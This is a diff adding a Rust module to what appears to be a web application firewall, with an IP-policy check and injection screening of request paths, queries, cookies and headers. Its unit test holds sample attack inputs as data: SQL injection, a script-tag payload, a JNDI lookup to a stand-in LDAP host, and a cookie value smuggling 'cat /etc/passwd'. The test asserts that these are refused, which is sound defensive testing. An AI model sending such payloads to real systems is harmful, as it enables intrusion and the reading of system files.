@@ -1,0 +1,133 @@
+//! Head checks that judge who sent the request and what its head carries: the client
+//! address against the IP policies, and injection screening of the normalised path,
+//! query, cookies and header values with the shared detection engine.
+
+use std::sync::Arc;
+
+use rampart_core::check::{Check, CheckFuture, Denial, Verdict};
+use rampart_core::phase::RequestHead;
+use rampart_core::problem::Reason;
+use rampart_detect::{Budget, Engine, Findings, Policy};
+use rampart_http::{IpDecision, IpPolicy};
+
+/// Refuses clients the address policies exclude.
+pub(crate) struct AddressCheck {
+    pub(crate) policies: Vec<Arc<IpPolicy>>,
+}
+
+impl AddressCheck {
+    fn verdict(&self, head: &RequestHead) -> Verdict {
+        for policy in &self.policies {
+            if let IpDecision::Deny { list } = policy.decide(head.client_ip) {
+                let rule = list.as_deref().unwrap_or("not-allowed").to_owned();
+                return Verdict::Deny(
+                    Denial::new("ip-policy", Reason::AddressDenied).with_rule(rule),
+                );
+            }
+        }
+        Verdict::Allow
+    }
+}
+
+impl Check<RequestHead> for AddressCheck {
+    fn id(&self) -> &'static str {
+        "ip-policy"
+    }
+
+    fn check<'a>(&'a self, input: &'a RequestHead) -> CheckFuture<'a> {
+        Box::pin(std::future::ready(Ok(self.verdict(input))))
+    }
+}
+
+/// Screens the request head for injection attacks.
+pub(crate) struct Screening {
+    pub(crate) engine: Arc<Engine>,
+    pub(crate) policy: Arc<Policy>,
+}
+
+impl Screening {
+    fn findings(&self, head: &RequestHead) -> Findings {
+        let fields = rampart_detect::extract::head_fields(&head.parts.uri, &head.parts.headers);
+        let mut budget = Budget::default();
+        self.engine
+            .inspect(fields.fields, &self.policy, &mut budget)
+    }
+}
+
+/// The denial screening calls for, with the explanation for the audit log.
+pub(crate) fn denial_of(findings: &Findings, threshold: u32) -> Option<Denial> {
+    if findings.undecided.is_some() {
+        // More nested encodings than the budget allows: refuse rather than guess.
+        return Some(Denial::new("screening", Reason::BadRequest).with_rule("decode-budget"));
+    }
+    if !findings.blocks(threshold) {
+        return None;
+    }
+    let first = findings.hits.iter().find(|h| !h.detect_only)?;
+    let mut denial = Denial::new("screening", Reason::AttackDetected)
+        .with_rule(first.rule_id.clone())
+        .with_location(first.location.clone());
+    denial.score = Some(findings.score);
+    Some(denial)
+}
+
+impl Check<RequestHead> for Screening {
+    fn id(&self) -> &'static str {
+        "screening"
+    }
+
+    fn check<'a>(&'a self, input: &'a RequestHead) -> CheckFuture<'a> {
+        let findings = self.findings(input);
+        let verdict = match denial_of(&findings, self.policy.threshold()) {
+            None => Verdict::Allow,
+            Some(denial) => {
+                let explanation: Vec<String> = findings
+                    .hits
+                    .iter()
+                    .map(|h| format!("{}@{}: {}", h.rule_id, h.location, h.fragment))
+                    .collect();
+                tracing::info!(request_id = %input.request_id, hits = ?explanation, "screening hits");
+                Verdict::Deny(denial)
+            }
+        };
+        Box::pin(std::future::ready(Ok(verdict)))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::limits::tests::head_with_method;
+
+    #[test]
+    fn screening_refuses_attacks_in_the_head_and_passes_look_alikes() {
+        let screening = Screening {
+            engine: Arc::new(Engine::builtin()),
+            policy: Arc::new(Policy::default()),
+        };
+        type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], bool);
+        let cases: [Case<'_>; 8] = [
+            ("/plans?q=select+your+plan", &[], false),
+            ("/authors?name=O%27Reilly", &[], false),
+            ("/items?id=1%27%20OR%20%271%27%3D%271", &[], true),
+            ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[], true),
+            (
+                "/x",
+                &[("x-api-version", "${jndi:ldap://203.0.113.9/a}")],
+                true,
+            ),
+            (
+                "/x",
+                &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")],
+                false,
+            ),
+            ("/x", &[("cookie", "session=abc123; theme=dark")], false),
+            ("/x", &[("cookie", "q=;cat /etc/passwd")], true),
+        ];
+        for (target, headers, attack) in cases {
+            let head = head_with_method("GET", target, headers);
+            let denial = denial_of(&screening.findings(&head), 5);
+            assert_eq!(denial.is_some(), attack, "{target} {headers:?}: {denial:?}");
+        }
+    }
+}
